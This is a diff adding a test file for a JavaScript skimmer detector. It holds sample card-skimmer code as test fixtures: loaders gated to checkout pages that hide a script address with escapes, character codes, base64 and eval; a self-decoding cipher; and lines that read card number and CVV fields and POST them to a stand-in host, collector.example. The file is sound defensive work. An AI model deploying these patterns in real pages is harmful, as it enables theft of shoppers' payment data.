@@ -1,0 +1,124 @@
+import { describe, expect, it } from 'vitest'
+import { analyzeScript } from '../../detector/index.ts'
+
+// Loaders: a first stage that adds the skimmer's script only on checkout pages, its address
+// hidden; code run through the file's own cipher; card values posted plainly to a foreign host.
+const rules = (source: string): string[] => analyzeScript(source).findings.map((f) => f.rule)
+const b64 = (s: string): string => Buffer.from(s).toString('base64')
+const escaped = (s: string): string =>
+  [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
+const codes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',')
+
+describe('a script from a hidden address, only on checkout pages', () => {
+  const tag = '<script src="https://cdn-assets.example/app.js"></script>'
+  const gate = `/onepage|checkout/.test(location.href)`
+  const loaders: [string, string][] = [
+    ['document.write of escaped markup', `if (${gate}) document.write('${escaped(tag)}')`],
+    [
+      'jQuery append of markup from character codes',
+      `if (${gate}) jQuery('head').append(String.fromCharCode(${codes(tag)}))`,
+    ],
+    [
+      'a new script element with a base64 src',
+      `if (${gate}) { var s = document.createElement('script'); s.src = atob('${b64('https://cdn-assets.example/app.js')}'); document.body.appendChild(s) }`,
+    ],
+    [
+      'a reversed URL inside code that eval decodes from base64',
+      `this['eval'](this['atob']('${b64(`if (${gate}) document.write('${[...tag].reverse().join('')}'.split('').reverse().join(''))`)}'))`,
+    ],
+  ]
+  for (const [how, source] of loaders)
+    it(`${how}: malicious`, () => {
+      expect(rules(source)).toContain('hidden-checkout-loader')
+      expect(analyzeScript(source).verdict).toBe('malicious')
+    })
+
+  const innocent: [string, string][] = [
+    ['no checkout gate', `document.write('${escaped(tag)}')`],
+    ['an address in plain sight', `if (${gate}) document.write('${tag}')`],
+    [
+      "the payment processor's own script",
+      `if (${gate}) document.write('${escaped('<script src="https://js.stripe.com/v3/"></script>')}')`,
+    ],
+    [
+      'a script of the page itself',
+      `if (${gate}) document.write('${escaped('<script src="/js/checkout.js"></script>')}')`,
+    ],
+    // scripts inserted through innerHTML never run
+    ['markup put in innerHTML', `if (${gate}) document.body.innerHTML += '${escaped(tag)}'`],
+  ]
+  for (const [how, source] of innocent)
+    it(`${how}: no hidden-loader finding`, () => {
+      expect(rules(source)).not.toContain('hidden-checkout-loader')
+    })
+})
+
+describe('code a file deciphers with its own code', () => {
+  const cipher = (text: string): string =>
+    `eval('${text}'.replace(/./g, function (c, k, t) { t = ''; for (k = 1; k < 90; k++) t += String.fromCharCode(k); return t.charAt(t.length - 1 - t.indexOf(c)) }))`
+  it('runs a long constant through an unreadable per-character cipher', () => {
+    expect(rules(cipher('Zr:T(S>UZ(W:MSQ?T[;NWW:OVUMZ?:IZ[RZS:VU(TU(QVS[TXQQWUX'))).toContain(
+      'dynamic-code-from-decoded',
+    )
+  })
+  it('a short constant is a word, not a payload', () => {
+    expect(rules(cipher('abc'))).not.toContain('dynamic-code-from-decoded')
+  })
+  it('a template compiled from a variable is not a cipher', () => {
+    expect(
+      rules(
+        `function compile(tpl) { return new Function('o', tpl.replace(/\\{(\\w+)\\}/g, function (m, k) { return "'+o." + k + "+'" })) }`,
+      ),
+    ).not.toContain('dynamic-code-from-decoded')
+  })
+})
+
+describe('card values posted plainly to a foreign host', () => {
+  const read = `var n = document.querySelector('#cc_number').value, c = document.querySelector('#cc_cvv').value`
+  it('the values themselves in the body: as strong as a beacon', () => {
+    const f = analyzeScript(
+      `${read}; var x = new XMLHttpRequest(); x.open('POST', 'https://collector.example/in'); x.send('n=' + n + '&c=' + c)`,
+    ).findings.find((x) => x.rule === 'card-field-read-and-send')
+    expect(f?.points).toBe(60)
+  })
+  it('card fields read, but only a constant pinged: weaker', () => {
+    const f = analyzeScript(
+      `${read}; if (n.length > 12) { var x = new XMLHttpRequest(); x.open('POST', 'https://collector.example/in'); x.send('checkout=1') }`,
+    ).findings.find((x) => x.rule === 'card-field-read-and-send')
+    expect(f?.points ?? 0).toBeLessThan(60)
+  })
+  it("a processor's own origin is where card values belong", () => {
+    const f = analyzeScript(
+      `${read}; fetch('https://secure.nmi.com/token', { method: 'POST', body: JSON.stringify({ n: n, c: c }) })`,
+    ).findings.find((x) => x.rule === 'card-field-read-and-send')
+    expect(f?.points ?? 0).toBe(0)
+  })
+})
+
+describe('operators routed through tables of one-line wrappers', () => {
+  const ops = ['+', '-', '*', '/', '%', '===', '!==', '<', '>', '|', '&', '^']
+  const wrapper = (op: string, i: number): string => `w${i}: function (a, b) { return a ${op} b }`
+  const reason = 'routes its operators through many one-line wrapper functions (obfuscated)'
+  it('a table of them side by side sends the file to the chamber', () => {
+    const source = `var T = { ${ops.map(wrapper).join(', ')} }; document.title = T.w0('a', 'b')`
+    expect(analyzeScript(source).triage ?? []).toContain(reason)
+  })
+  it('as many comparators spread over a library do not', () => {
+    const filler = `\nvar pad = '${'x'.repeat(5000)}'\n`
+    const source = ops
+      .map((op, i) => `var f${i} = function (a, b) { return a ${op} b }`)
+      .join(filler)
+    expect(analyzeScript(source).triage ?? []).not.toContain(reason)
+  })
+})
+
+describe('names spelled through branches decided in place', () => {
+  it("reads `'co' + (82 > 1 ? 'n' : 'i') + 'structor'` as constructor", () => {
+    const source = `var F = ''.constructor; F['co' + (82 > 1 ? 'n' : 'i') + 'structor'](atob(k))()`
+    expect(rules(source)).toContain('dynamic-code-from-decoded')
+  })
+  it('leaves a branch on a value known only at run time alone', () => {
+    const source = `var F = ''.constructor; F['co' + (w > 1 ? 'n' : 'i') + 'structor'](atob(k))()`
+    expect(rules(source)).not.toContain('dynamic-code-from-decoded')
+  })
+})
